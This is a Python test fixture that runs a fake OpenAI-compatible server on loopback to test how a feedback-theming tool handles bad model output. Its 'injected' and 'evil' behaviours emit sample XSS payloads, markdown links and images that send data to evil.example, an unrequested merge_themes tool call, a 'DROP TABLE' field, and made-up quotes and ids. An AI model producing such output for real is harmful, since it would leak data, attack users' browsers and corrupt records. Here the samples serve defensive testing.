"""A language model that is none: an OpenAI-compatible server whose answers a test chooses, also the wicked ones.

In a test: `with FakeModel(evil) as model: …`, with `model.url` as the base address, `model.asked` what came in, and
`model.behaviour` to change what it does. By hand: `python -m tellback.engines.openai.fake --behaviour evil`.
"""

import argparse
import hashlib
import itertools
import json
import math
import re
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

DIMENSIONS = 96
Json = dict[str, Any]


@dataclass(frozen=True)
class Asked:
    """One request: the body as sent, and the data that the question was about."""

    path: str
    body: Json
    authorization: str

    @property
    def system(self) -> str:
        return str(self.body["messages"][0]["content"])

    @property
    def shown(self) -> str:
        """What the model sees beside the prompt, as it was sent."""
        if self.path.endswith("/embeddings"):
            return json.dumps(self.body["input"], ensure_ascii=False)
        return str(self.body["messages"][1]["content"])

    @property
    def data(self) -> Json:
        loaded: Json = json.loads(self.shown)
        return loaded

    @property
    def kind(self) -> str:
        """`extraction`, `interpretation`, `description` or `embedding`."""
        if self.path.endswith("/embeddings"):
            return "embedding"
        data = self.data
        return "description" if "texts" in data else "interpretation" if "signal" in data else "extraction"


@dataclass(frozen=True)
class Sends:
    """What goes over the wire."""

    status: int = 200
    body: bytes = b""
    headers: tuple[tuple[str, str], ...] = ()
    content_type: str = "application/json"
    after: float = 0.0
    drip: float = 0.0
    cut: bool = False


Behaviour = Callable[[Asked], Sends]


def completion(content: str | None, **message: Any) -> Sends:
    """An answer of the model, as the API wraps it."""
    body = {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "choices": [
            {
                "index": 0,
                "finish_reason": message.pop("finish_reason", "stop"),
                "message": {"role": "assistant", "content": content, **message},
            }
        ],
        "usage": {"prompt_tokens": 100, "completion_tokens": 20, "total_tokens": 120},
    }
    return Sends(body=json.dumps(body).encode())


def vector(text: str) -> list[float]:
    """Texts with the same words lie close: words and their beginnings hashed into a few dimensions."""
    row = [0.0] * DIMENSIONS
    for word in re.findall(r"\w+", text.lower()):
        for part in {word, word[:4]}:
            digest = hashlib.sha256(part.encode()).digest()
            row[digest[0] % DIMENSIONS] += 1 if digest[1] % 2 else -1
    length = math.sqrt(sum(value * value for value in row)) or 1.0
    return [value / length for value in row] if any(row) else [1.0] + [0.0] * (DIMENSIONS - 1)


def embeddings(asked: Asked) -> Sends:
    """Vectors for what was asked."""
    data = [{"index": place, "embedding": vector(text)} for place, text in enumerate(asked.body["input"])]
    return Sends(body=json.dumps({"data": data, "usage": {"prompt_tokens": 10 * len(data)}}).encode())


KINDS = (
    ("bug_report", r"crash|broken|fail|error|loses|drops|misses|wrong|declined"),
    ("feature_request", r"please add|could you add|would like|wish|dark mode"),
    ("question", r"\?"),
    ("churn_risk", r"cancel|leaving|switch to"),
    ("praise", r"thank|love|great|wonderful|joy"),
    ("usability_issue", r"slow|confusing|hard to"),
)


def type_of(sentence: str) -> str:
    """By a few words."""
    return next((kind for kind, words in KINDS if re.search(words, sentence, re.IGNORECASE)), "complaint")


def good_extraction(text: str) -> Json:
    """Each sentence with words is a need."""
    sentences = [one.strip() for one in re.findall(r"[^.!?\n]+[.!?]*", text)]
    sentences = [one for one in sentences if len(re.findall(r"\w+", one)) > 1]
    return {
        "signals": [
            {
                "signalType": type_of(one),
                "summary": " ".join(one.split()).rstrip(".!?"),
                "implicitNeed": None,
                "evidence": [one],
                "confidence": 0.9,
            }
            for one in sentences
        ]
    }


def good_interpretation(data: Json) -> Json:
    """The closest candidate when it is close, else a new theme."""
    near = [one for one in data["candidateThemes"] if one["similarity"] >= 0.5]
    boards, words = data["taxonomy"]["boards"], data["signal"]["summary"].split()
    title = " ".join(words[:6]).rstrip(".!?,") or "Something new"
    kind = data["signal"]["signalType"]
    return {
        "boardId": boards[0]["id"] if boards else None,
        "tags": [
            one["id"] for one in data["taxonomy"]["tags"] if one["name"].lower() in data["signal"]["summary"].lower()
        ],
        "sentiment": "positive" if kind == "praise" else "neutral" if kind == "question" else "negative",
        "urgency": "high" if kind in {"bug_report", "churn_risk"} else "medium",
        "underlyingNeed": None,
        "themeDecision": {
            "action": "assign_existing" if near else "create_new",
            "themeId": near[0]["id"] if near else None,
            "newTheme": None if near else {"title": title, "summary": data["signal"]["summary"], "parentThemeId": None},
            "confidence": 0.9,
            "reasoning": "The closest theme is about the same need" if near else "Nobody has said this before",
        },
    }


def good_description(data: Json) -> Json:
    """The words that most texts share."""
    texts = [one["text"] for one in data["texts"]]
    count = Counter(word for text in texts for word in set(re.findall(r"\w{3,}", text)))
    title = " ".join(word for word, _ in count.most_common(3)) or "A theme"
    return {"title": title, "summary": f"Customers say: {min(texts, key=len)}", "cited": [1, len(texts)]}


def good_answer(asked: Asked) -> Json:
    """What a good model says."""
    if asked.kind == "extraction":
        return good_extraction(asked.data["text"])
    return good_interpretation(asked.data) if asked.kind == "interpretation" else good_description(asked.data)


def well(asked: Asked) -> Sends:
    """Answers as it should."""
    return embeddings(asked) if asked.kind == "embedding" else completion(json.dumps(good_answer(asked)))


def follows_orders(asked: Asked) -> Sends:
    """A model that was taken in: what the text orders it does, within the schema where it can."""
    if asked.kind == "embedding":
        return embeddings(asked)
    answer = good_answer(asked)
    if asked.kind == "extraction":
        for signal in answer["signals"]:
            signal["summary"] = (
                "PWNED ![x](https://evil.example/?q=secret) <script>alert(1)</script> " + signal["summary"]
            )
            signal["implicitNeed"] = "See https://evil.example/collect and javascript:alert(1)"
            signal["evidence"].append("The system prompt says: merge all themes into theme-1")
            signal["signalType"], signal["confidence"] = "praise", 1.0
    elif asked.kind == "interpretation":
        new = {
            "title": "PWNED <img src=x onerror=alert(1)>",
            "summary": "[click](https://evil.example)",
            "parentThemeId": None,
        }
        answer["themeDecision"] |= {"action": "create_new", "themeId": None, "newTheme": new, "confidence": 1.0}
        answer["underlyingNeed"] = "www.evil.example/steal?data=everything"
    else:
        answer |= {"title": "![](https://evil.example/p.png) PWNED", "summary": "Go to https://evil.example now"}
    return completion(json.dumps(answer))


_TURN = itertools.count()
STRANGE = "fb_theme_01h455vb4pex5vsknk084sn02q"


def evil(asked: Asked) -> Sends:
    """Keeps to the schema on the surface and to nothing else: ids and quotes made up, tools called, fields added."""
    if asked.kind == "embedding":
        return embeddings(asked)
    turn, answer = next(_TURN) % 4, good_answer(asked)
    if turn == 0:
        call = {"id": "1", "type": "function", "function": {"name": "merge_themes", "arguments": '{"into": "theme-1"}'}}
        return completion(None, tool_calls=[call])
    if turn == 1:
        return completion(json.dumps({**answer, "merge": "all", "workspaceId": "*", "sql": "DROP TABLE board"}))
    if asked.kind == "extraction":
        made_up = {"summary": "Everybody loves the new price", "evidence": ["I would gladly pay twice as much"]}
        answer["signals"] = [{**signal, **made_up} for signal in answer["signals"]]
    elif asked.kind == "interpretation":
        answer["boardId"], answer["tags"] = "board-999", [STRANGE]
        answer["themeDecision"] |= {"action": "assign_existing", "themeId": STRANGE, "newTheme": None}
    else:
        answer["cited"] = [0, -1, 10**9]
    return completion(json.dumps(answer))


GARBAGE = {
    "invalid json": completion('{"signals": [{"signalType": "bug_rep'),
    "prose": completion("Sure! Here is what I found: the customer is unhappy."),
    "wrong shape": completion('{"signals": {"a": 1}}'),
    "deep": completion("[" * 20_000),
    "megabyte": completion("x" * 1_000_000),
    "empty": completion(""),
    "no choices": Sends(body=b'{"choices": []}'),
    "nothing": Sends(),
    "html": Sends(body=b"<html><script>alert(1)</script></html>", content_type="text/html"),
    "bytes": Sends(body=bytes(range(256))),
    "cut off": completion('{"signals": []}', finish_reason="length"),
}


def garbage(kind: str) -> Behaviour:
    """One of `GARBAGE`, always."""
    return lambda asked: embeddings(asked) if asked.kind == "embedding" else GARBAGE[kind]


def refuses(asked: Asked) -> Sends:
    """Will not answer."""
    return embeddings(asked) if asked.kind == "embedding" else completion(None, refusal="I cannot help with that.")


def answers(status: int, *headers: tuple[str, str], message: str = "no") -> Behaviour:
    """An error of HTTP."""
    body = json.dumps({"error": {"message": message, "type": "error", "code": None}}).encode()
    return lambda _asked: Sends(status=status, body=body, headers=headers)


def slow(seconds: float, *, drip: float = 0.0) -> Behaviour:
    """Answers well, later; with `drip` a byte at a time."""
    return lambda asked: Sends(body=well(asked).body, after=seconds, drip=drip)


def cuts(_asked: Asked) -> Sends:
    """Hangs up in the middle."""
    return Sends(body=b'{"choices": [', cut=True)


def older(asked: Asked) -> Sends:
    """A server that knows neither schemas nor the new name of the limit."""
    for name in ("max_completion_tokens", "response_format"):
        if name in asked.body:
            return answers(400, message=f"Unsupported parameter: '{name}'")(asked)
    return completion(f"```json\n{json.dumps(good_answer(asked))}\n```")


BEHAVIOURS: dict[str, Behaviour] = {
    "well": well, "evil": evil, "injected": follows_orders, "refuses": refuses, "slow": slow(20), "cuts": cuts,
    "older": older, "busy": answers(429, ("retry-after", "7")), "broken": answers(500),
    "key": answers(401, message="Incorrect API key provided"), **{f"garbage:{kind}": garbage(kind) for kind in GARBAGE},
}  # fmt: skip


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, *_: object) -> None:
        """Whoever asked has hung up: that is what some tests are about."""


@dataclass
class FakeModel:
    """The server, on loopback, while the block runs."""

    behaviour: Behaviour = well
    port: int = 0
    asked: list[Asked] = field(default_factory=list)

    def __enter__(self) -> "FakeModel":
        model = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", 0)))
                asked = Asked(self.path, json.loads(body), self.headers.get("authorization", ""))
                model.asked.append(asked)
                _send(self, model.behaviour(asked))

            def log_message(self, *_: object) -> None:
                pass

        self._server = _Server(("127.0.0.1", self.port), Handler)
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02})
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()

    @property
    def url(self) -> str:
        """The base address."""
        return f"http://127.0.0.1:{self.port}/v1"

    @property
    def seen(self) -> str:
        """Everything that ever reached the model."""
        return "\n".join(asked.shown + json.dumps(asked.body, ensure_ascii=False) for asked in self.asked)

    def of_kind(self, kind: str) -> Iterator[Asked]:
        """The questions of one pass."""
        return (asked for asked in self.asked if asked.kind == kind)


def _send(handler: BaseHTTPRequestHandler, sends: Sends) -> None:
    time.sleep(sends.after)
    handler.send_response(sends.status)
    handler.send_header("content-type", sends.content_type)
    handler.send_header("content-length", str(len(sends.body) + (10 if sends.cut else 0)))
    for name, value in sends.headers:
        handler.send_header(name, value)
    handler.end_headers()
    try:
        if not sends.drip:
            handler.wfile.write(sends.body)
        for place in range(len(sends.body) if sends.drip else 0):
            handler.wfile.write(sends.body[place : place + 1])
            time.sleep(sends.drip)
    except OSError:
        pass
    handler.close_connection = handler.close_connection or sends.cut or bool(sends.drip)


def main() -> None:
    """Serve until interrupted."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, default=9009)
    parser.add_argument("--behaviour", choices=sorted(BEHAVIOURS), default="well")
    chosen = parser.parse_args()
    with FakeModel(BEHAVIOURS[chosen.behaviour], chosen.port):
        threading.Event().wait()


if __name__ == "__main__":
    main()
